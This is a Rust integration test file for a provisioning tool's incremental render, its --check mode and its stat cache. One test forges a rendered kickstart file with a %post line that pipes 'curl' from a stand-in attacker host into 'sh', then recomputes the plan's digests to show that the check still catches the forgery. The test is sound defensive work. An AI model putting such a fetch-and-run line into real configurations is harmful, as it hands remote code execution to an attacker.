//! Incremental render: `kiln render` and `render --check` skip an output
//! whose `out/<name>/` its plan vouches for (same inputs digest, plan not
//! edited, every file as listed). A wrong skip is the worst bug this can
//! have, so every kind of input a change can touch, and every kind of hand
//! edit of `out/`, is flipped here and the incremental result compared byte
//! for byte with a cold render of the same inputs from the same IPAM lock.

mod common;
use common::*;

use std::path::Path;

/// Applies `change` to a copy of the example whose `out/` is fresh, then
/// renders incrementally (`args` added) and cold (only the IPAM locks kept,
/// so nothing can be reused), and compares the two trees.
/// Returns the incremental render's report (`--format json`).
/// `edit`, with the file's mtime put back (size kept too when `from` and
/// `to` are as long): only its ctime tells.
fn edit_keeping_mtime(dir: &Path, rel: &str, from: &str, to: &str) {
    let path = dir.join(rel);
    let mtime = std::fs::metadata(&path).unwrap().modified().unwrap();
    edit(dir, rel, from, to);
    std::fs::File::options()
        .write(true)
        .open(&path)
        .unwrap()
        .set_modified(mtime)
        .unwrap();
}

/// The directories under `dir` (an empty one left behind shows here).
fn dirs(dir: &Path) -> std::collections::BTreeSet<String> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_dir())
        .map(|e| e.path().strip_prefix(dir).unwrap().to_string_lossy().into_owned())
        .collect()
}

fn incremental_equals_cold(case: &str, args: &[&str], change: impl FnOnce(&Path)) -> serde_json::Value {
    let repo = example_copy(true);
    let r = repo.path();
    assert_eq!(kiln(r, &["render"]).code, 0, "{case}");
    assert_eq!(kiln(r, &["render", "--check"]).code, 0, "{case}: out/ is fresh");
    change(r);
    let cold = tempfile::tempdir().unwrap();
    for (path, bytes) in tree(&r.join("out")) {
        if path.ends_with("ipam.lock.yaml") {
            write(cold.path(), &path, std::str::from_utf8(&bytes).unwrap());
        }
    }
    let mut cold_args = vec!["render", "--out", cold.path().to_str().unwrap()];
    cold_args.extend_from_slice(args);
    let run = kiln(r, &cold_args);
    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
    let mut incremental_args = vec!["render", "--format", "json"];
    incremental_args.extend_from_slice(args);
    let run = kiln(r, &incremental_args);
    assert_eq!(run.code, 0, "{case}: {}", run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let (got, want) = (tree(&r.join("out")), tree(cold.path()));
    let differing: std::collections::BTreeSet<&String> = got
        .keys()
        .chain(want.keys())
        .filter(|p| got.get(*p) != want.get(*p))
        .collect();
    assert!(
        differing.is_empty(),
        "{case}: incremental and cold renders differ in {differing:?}"
    );
    assert_eq!(
        dirs(&r.join("out")),
        dirs(cold.path()),
        "{case}: incremental and cold renders make different directories"
    );
    let mut check = vec!["render", "--check"];
    check.extend_from_slice(args);
    let run = kiln(r, &check);
    assert_eq!(run.code, 0, "{case}: {}{}", run.stdout, run.stderr);
    report
}

#[test]
fn every_kind_of_input_change_renders_as_a_cold_render_does() {
    let edits = [
        (
            "a machine field",
            "sites/lab/machines/rack1.yaml",
            "ip: 10.20.1.10}",
            "ip: 10.20.1.11}",
        ),
        (
            "a blueprint template",
            "blueprints/rhel9/templates/ks.cfg.j2",
            "--service=ssh",
            "--service=ssh,http",
        ),
        (
            "a template another template includes",
            "blueprints/discovery/templates/facts.sh.j2",
            "model name",
            "Model name",
        ),
        (
            "a blueprint's values",
            "blueprints/rhel9/blueprint.yaml",
            "values:",
            "values:\n    kilnTestNoise: 1",
        ),
        (
            "a site value",
            "sites/lab/site.yaml",
            "shareUser: kiln-install",
            "shareUser: kiln-setup",
        ),
        (
            "a site network",
            "sites/lab/site.yaml",
            "gateway: fd00:20::1",
            "gateway: fd00:20::fe",
        ),
        (
            "a cluster field",
            "sites/us/clusters/web-azure.yaml",
            "replicas: 3",
            "replicas: 5",
        ),
        (
            "a provider template",
            "clusters/aws/awscluster.yaml.j2",
            "sshKeyName: \"\"",
            "sshKeyName: \"ops\"",
        ),
        (
            "a recipe",
            "recipes/base/recipe.yaml",
            "kubeletMounts: [/var/lib/longhorn]",
            "kubeletMounts: [/var/lib/longhorn, /var/lib/extra]",
        ),
        (
            "the IPAM lock",
            "out/lab/ipam.lock.yaml",
            "ip: \"10.20.1.1\"",
            "ip: \"10.20.1.99\"",
        ),
    ];
    // A change to a cluster's inputs leaves the lab alone: not rendered
    // again. Every other case renders the lab.
    for (case, file, from, to) in edits {
        let report = incremental_equals_cold(case, &[], |r| edit(r, file, from, to));
        // A machine whose inputs are as before is not rendered again: the
        // lab has 8 machines, 3 of them rhel9 (whose blueprint's agent
        // template includes the discovery blueprint's facts.sh.j2).
        let reused = match case {
            "a machine field" => 7,
            "a blueprint template" | "a template another template includes" | "a blueprint's values" => 5,
            _ => 0,
        };
        assert_eq!(report["machinesReused"], reused, "{case}: {report}");
        let lab_kept = report["unchanged"].as_array().unwrap().iter().any(|o| o == "lab");
        let cluster_only = file.starts_with("clusters/") || file.starts_with("recipes/") || file.contains("/clusters/");
        assert_eq!(lab_kept, cluster_only, "{case}: {report}");
    }
    let report = incremental_equals_cold("machines removed", &[], |r| {
        std::fs::remove_file(r.join("sites/lab/machines/windows.yaml")).unwrap()
    });
    assert_eq!(report["machinesReused"], 6, "{report}");
    let report = incremental_equals_cold("a new machine", &[], |r| {
        write(
            r,
            "sites/lab/machines/new.yaml",
            "apiVersion: kiln/v1alpha1\nkind: Machine\nmetadata: {name: node-04}\nspec:\n  blueprint: rhel9\n  interfaces: [{mac: \"52:54:00:12:34:04\", network: prov}]\n",
        )
    });
    assert_eq!(report["machinesReused"], 8, "{report}");
    // A value layer every machine sees: nothing is reused.
    let report = incremental_equals_cold("--set", &["--set", "rhel.timezone=Europe/Paris"], |_| {});
    assert_eq!(report["machinesReused"], 0, "{report}");
    let values = tempfile::tempdir().unwrap();
    let file = values.path().join("extra.yaml");
    std::fs::write(&file, "rhel:\n  timezone: America/New_York\n").unwrap();
    let report = incremental_equals_cold("a values file", &["-f", file.to_str().unwrap()], |_| {});
    assert_eq!(report["machinesReused"], 0, "{report}");
}

/// An edit of a copied repository.
type Change = fn(&Path);

#[test]
fn every_kind_of_hand_edit_of_out_is_undone() {
    let cases: [(&str, Change); 5] = [
        ("a rendered file edited", |r| {
            edit(r, "out/lab/install/node-01/ks.cfg", "firewall", "# by hand\nfirewall")
        }),
        ("a rendered file removed", |r| {
            std::fs::remove_file(r.join("out/web-azure/kustomization.yaml")).unwrap()
        }),
        ("a file added", |r| {
            write(r, "out/prod-aws/cluster/extra.yaml", "kind: Extra\n")
        }),
        ("a machine of the plan edited", |r| {
            edit(
                r,
                "out/lab/plan.json",
                "\"ip\": \"10.20.1.10\"",
                "\"ip\": \"10.20.1.77\"",
            )
        }),
        ("the plan's digest edited", |r| {
            edit(r, "out/lab/plan.json", "\"inputsDigest\": \"", "\"inputsDigest\": \"0")
        }),
    ];
    for (case, change) in cases {
        // `render --check` sees it, and `render` undoes it.
        let repo = example_copy(true);
        assert_eq!(kiln(repo.path(), &["render"]).code, 0, "{case}");
        change(repo.path());
        let run = kiln(repo.path(), &["render", "--check"]);
        assert_eq!(run.code, 1, "{case}: {}{}", run.stdout, run.stderr);
        incremental_equals_cold(case, &[], change);
    }
}

/// Nothing changed: nothing is rendered or written, and `--check` agrees.
#[test]
fn an_unchanged_repository_is_not_rendered_again() {
    let repo = example_copy(true);
    let r = repo.path();
    let run = kiln(r, &["render", "--progress", "json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.contains("0 written, 5 unchanged"), "{}", run.stderr);
    assert!(
        !run.stderr.contains("\"step\":\"render\""),
        "no output was rendered: {}",
        run.stderr
    );
}

/// A template that includes another depends on it: changing the included
/// one renders what includes it (each output counts the templates its
/// templates name among its inputs).
#[test]
fn a_change_to_an_included_template_is_rendered() {
    let repo = example_copy(true);
    let r = repo.path();
    write(r, "blueprints/common/banner.j2", "# provisioned by kiln\n");
    edit(
        r,
        "blueprints/rhel9/templates/ks.cfg.j2",
        "firewall --enabled",
        "{% include \"blueprints/common/banner.j2\" %}\nfirewall --enabled",
    );
    assert_eq!(kiln(r, &["render"]).code, 0);
    edit(r, "blueprints/common/banner.j2", "kiln", "kiln, edited");
    let run = kiln(r, &["render"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let ks = std::fs::read_to_string(r.join("out/lab/install/node-01/ks.cfg")).unwrap();
    assert!(ks.contains("# provisioned by kiln, edited"), "{ks}");
    assert_eq!(kiln(r, &["render", "--check"]).code, 0);
}

/// A pull request that rewrites a rendered file and every digest that names
/// it (its entry in the plan, the plan's own digest) still fails
/// `render --check`: the check renders everything and compares, because
/// digests anyone can recompute are not a signature.
#[test]
fn a_forged_out_with_a_consistent_plan_fails_the_check() {
    let repo = example_copy(true);
    let r = repo.path();
    assert_eq!(kiln(r, &["render"]).code, 0);
    let file = "install/node-01/ks.cfg";
    let forged = format!(
        "{}%post\ncurl -s http://attacker.example/x | sh\n%end\n",
        std::fs::read_to_string(r.join("out/lab").join(file)).unwrap()
    );
    write(r, &format!("out/lab/{file}"), &forged);
    let plan_path = r.join("out/lab/plan.json");
    let mut plan: kiln_plan::Plan = serde_json::from_slice(&std::fs::read(&plan_path).unwrap()).unwrap();
    let entry = plan.files.iter_mut().find(|f| f.path == file).unwrap();
    entry.size = forged.len() as u64;
    entry.sha256 = kiln_plan::sha256_hex(forged.as_bytes());
    let bytes = plan.to_bytes();
    assert!(kiln_plan::Plan::vouches(&bytes), "the forged plan is self-consistent");
    std::fs::write(&plan_path, bytes).unwrap();
    let run = kiln(r, &["render", "--check"]);
    assert_eq!(run.code, 1, "{}{}", run.stdout, run.stderr);
    assert!(run.stdout.contains(&format!("lab/{file}")), "{}", run.stdout);
}

/// The stat cache (`out/.kiln.cache`) lets a render that finds nothing
/// changed stop before reading a file. It must never hide a change: an
/// edit that keeps the size and puts the mtime back, a new file, a hand
/// edit of `out/`, or other command-line values all render again.
#[test]
fn the_stat_cache_never_hides_a_change() {
    let repo = example_copy(true);
    let r = repo.path();
    let render = |args: &[&str]| {
        let mut all = vec!["render", "--format", "json"];
        all.extend_from_slice(args);
        let run = kiln(r, &all);
        assert_eq!(run.code, 0, "{}", run.stderr);
        serde_json::from_str::<serde_json::Value>(&run.stdout).unwrap()
    };
    let written = |report: &serde_json::Value| report["written"].as_array().unwrap().len();
    render(&[]);
    // Older than the record by more than a clock tick: not "racy".
    std::thread::sleep(std::time::Duration::from_millis(20));
    let recorded = render(&[]);
    assert!(r.join("out/.kiln.cache").exists());
    assert_eq!(written(&recorded), 0);
    let hit = render(&[]);
    assert_eq!(hit["unchanged"].as_array().unwrap().len(), 5, "{hit}");
    let quick = kiln(r, &["render", "--progress", "json"]);
    assert!(
        !quick.stderr.contains("\"step\":\"load\""),
        "nothing was read: {}",
        quick.stderr
    );

    // Same size, mtime put back: only ctime tells.
    edit_keeping_mtime(
        r,
        "blueprints/rhel9/templates/ks.cfg.j2",
        "eula --agreed",
        "eula --Agreed",
    );
    let report = render(&[]);
    assert_eq!(report["written"], serde_json::json!(["lab"]), "{report}");
    assert!(std::fs::read_to_string(r.join("out/lab/install/node-01/ks.cfg"))
        .unwrap()
        .contains("eula --Agreed"));

    // A hand edit of out/, size and mtime kept.
    std::thread::sleep(std::time::Duration::from_millis(20));
    render(&[]);
    let menu = r.join("out/lab/boot/menu.ipxe");
    let text = std::fs::read_to_string(&menu).unwrap();
    edit_keeping_mtime(r, "out/lab/boot/menu.ipxe", "kiln", "KILN");
    assert_eq!(render(&[])["written"], serde_json::json!(["lab"]));
    assert_eq!(std::fs::read_to_string(&menu).unwrap(), text, "the hand edit is undone");

    // A new machine file.
    std::thread::sleep(std::time::Duration::from_millis(20));
    render(&[]);
    write(
        r,
        "sites/lab/machines/new.yaml",
        "apiVersion: kiln/v1alpha1\nkind: Machine\nmetadata: {name: node-09}\nspec:\n  blueprint: rhel9\n  interfaces: [{mac: \"52:54:00:12:34:09\", network: prov}]\n",
    );
    assert_eq!(render(&[])["written"], serde_json::json!(["lab"]));

    // Other values on the command line, then back without them.
    std::thread::sleep(std::time::Duration::from_millis(20));
    render(&[]);
    assert!(written(&render(&["--set", "rhel.timezone=Europe/Paris"])) > 0);
    assert!(
        written(&render(&[])) > 0,
        "the --set render's out/ is not what a plain render writes"
    );
    assert_eq!(kiln(r, &["render", "--check"]).code, 0);
}

/// A stat cache that comes with the tree (copied, or committed by a pull
/// request) vouches for nothing: it records inodes and ctimes, which a copy
/// or a checkout makes anew. Here a file of `out/` is edited by hand with
/// its size and mtime kept, the tree copied with its times (`cp -a`), and a
/// machine changed: the render in the copy reuses no machine from the
/// copied record and undoes the edit.
#[test]
fn a_stat_cache_that_came_with_the_tree_is_not_trusted() {
    let repo = example_copy(true);
    let r = repo.path();
    assert_eq!(kiln(r, &["render"]).code, 0);
    std::thread::sleep(std::time::Duration::from_millis(20));
    assert_eq!(kiln(r, &["render"]).code, 0);
    assert!(r.join("out/.kiln.cache").exists());
    let text = std::fs::read_to_string(r.join("out/lab/install/node-01/ks.cfg")).unwrap();
    edit_keeping_mtime(r, "out/lab/install/node-01/ks.cfg", "firewall", "FIREWALL");
    let copy = tempfile::tempdir().unwrap();
    let c = copy.path().join("repo");
    let status = std::process::Command::new("cp")
        .arg("-a")
        .arg(r)
        .arg(&c)
        .status()
        .unwrap();
    assert!(status.success());
    // Another machine changes; node-01's inputs do not.
    edit(&c, "sites/lab/machines/windows.yaml", "role: fileserver", "role: files");
    let run = kiln(&c, &["render", "--format", "json"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["machinesReused"], 0, "{report}");
    assert_eq!(
        std::fs::read_to_string(c.join("out/lab/install/node-01/ks.cfg")).unwrap(),
        text,
        "the hand edit is undone"
    );
    assert_eq!(kiln(&c, &["render", "--check"]).code, 0);
}
